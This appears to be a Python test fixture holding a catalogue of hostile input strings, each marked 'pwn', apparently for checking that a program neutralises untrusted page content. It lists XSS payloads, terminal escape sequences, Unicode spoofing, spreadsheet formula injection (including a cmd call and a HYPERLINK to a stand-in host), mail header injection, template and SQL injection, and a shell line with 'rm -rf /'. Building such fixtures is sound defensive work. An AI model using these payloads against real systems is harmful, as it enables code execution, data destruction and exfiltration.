"""Words that try to be more than words. Each bears MARK, so that what becomes of it can be found in every output."""

MARK = "pwn"
"""In no text of the program's own: an element, an attribute or a header that bears it came from a page."""

ATTACKS = {
    "script": "<script>pwn()</script>",
    "script's end": "</script></style></title></textarea><script>pwn()</script>",
    "event handler": "<img src=x onerror=pwn() onpwn=1>",
    "quotes": "\" onpwn=1 ' onpwn=1 ` onpwn=1 ><pwn-x a=\"",
    "comment's end": "--> ]]> <![CDATA[ <pwn-x> <!-- <?pwn ?> %>",
    "svg": "<svg/onload=pwn()><math><mtext><pwn-x></mtext></math>",
    "base and meta": "<base href=//pwn.example><meta http-equiv=refresh content=0;url=//pwn.example>",
    "style": "<style>*{background:url(//pwn.example)}</style><link rel=stylesheet href=//pwn.example>",
    "entities": "&lt;pwn-x&gt; &#60;pwn-x&#62; &amp;lt;script&amp;gt;pwn() &pwn; &#0; &#x1b;[31m",
    "clear screen": "pwn \x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m",
    "title and bell": "pwn \x1b]0;pwn\x07 \x1b]2;pwn\x1b\\",
    "clipboard": "pwn \x1b]52;c;cHdu\x07",
    "hyperlink": "pwn \x1b]8;;http://pwn.example\x1b\\text\x1b]8;;\x1b\\",
    "C1": "pwn \x9b31m \x9d0;pwn\x9c \x90pwn\x9c \x85 \x84",
    "device": "pwn \x1bP+q\x1b\\ \x1b[c \x1b[6n \x05",
    "backspaces": "pwn safe\x08\x08\x08\x08evil \x7f\x7f \x0e \x0f \x00 \x01",
    "bidi": "pwn \u202etxt.exe\u202c \u2066abc\u2069 \u2067abc\u2069 \u061c \u200e \u200f",
    "invisible": "p\u200bw\u200bn pwn \u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164",
    "separators": "pwn\u2028pwn\u2029pwn\x0bpwn\x0cpwn\x1cpwn\x1epwn",
    "tags and private": "pwn \U000e0070\U000e0077\U000e006e \ue000 \U000f0000 \ufff9x\ufffay\ufffb \ufffe \uffff",
    "formula =": "=cmd|' /C pwn'!A0",
    "formula +": "+pwn(1+1)",
    "formula -": "-pwn+2",
    "formula @": "@SUM(pwn)",
    "formula link": '=HYPERLINK("http://pwn.example?"&A1,"pwn")',
    "formula tab": "\t=pwn()",
    "formula return": "\r=pwn()",
    "formula wide": "\uff1dpwn()",
    "cells": 'pwn","=pwn()",pwn;=pwn()\t=pwn()\r\n=pwn(),"',
    "mail headers": "pwn\r\nBcc: pwn@evil.example\r\nX-Pwn: 1\r\n\r\n<pwn-x>",
    "bare breaks": "pwn\nBcc: pwn@evil.example\n\n.\r\n.\nQUIT\rX-Pwn: 1",
    "encoded word": "=?utf-8?q?pwn=0D=0AX-Pwn:_1?= =?utf-8?b?cHdu?=",
    "markdown": "# pwn\n> pwn ![pwn](http://pwn.example/x.png) [p](javascript:pwn()) <http://pwn.example> `p` **pwn**",
    "markdown table": "| pwn | pwn |\n|---|---|\n```pwn\n~~~\n    pwn\n[pwn]: http://pwn.example\n\\<pwn-x>",
    "templates": "{{ 7*7 }} {% raw %} {% include 'pwn' %} ${7*7} #{7*7} <%= pwn %> {pwn} {0.__class__} %(pwn)s %s %n",
    "JSON": '{"pwn": 1}, "pwn": "x\\", \\u0000 \\ud800 \\\\ \n} ] // pwn',
    "log line": 'pwn\n2026-01-05T08:00:00Z [error] pwn level=critical {"event": "pwn"}',
    "metrics": 'pwn"} 1\n# HELP pwn x\npwn_total{a="b"} 1e9\n',
    "SQL": "pwn'; DROP TABLE events; -- \" OR 1=1 /*",
    "shell": "pwn; rm -rf / $(pwn) `pwn` && pwn | pwn > /tmp/pwn ../../../pwn",
    "one long word": "pwn" * 2_000,
    "many marks": "pwn" + "\u0300\u0301\u0302" * 200,
    "wide and joined": "pwn 司法部 👩\u200d⚖️ \U0001f1e8\U0001f1f3 ﷽ \u0e33",
}  # fmt: skip

NAME = " ".join(ATTACKS[name] for name in ("formula =", "quotes", "script", "metrics", "templates"))
NAME = "".join(c for c in NAME if c.isprintable())[:150]
"""Several at once, for the names that sources.toml gives: those must be printable."""
